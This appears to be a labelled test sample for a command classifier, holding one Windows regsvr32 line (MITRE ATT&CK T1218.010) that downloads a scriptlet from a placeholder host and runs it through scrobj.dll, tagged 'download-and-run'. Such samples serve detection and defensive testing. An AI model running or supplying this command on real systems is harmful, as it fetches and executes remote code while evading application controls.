@rem expect: download-and-run | source: MITRE ATT&CK T1218.010
regsvr32 /s /n /u /i:http://files.example.invalid/a.sct scrobj.dll
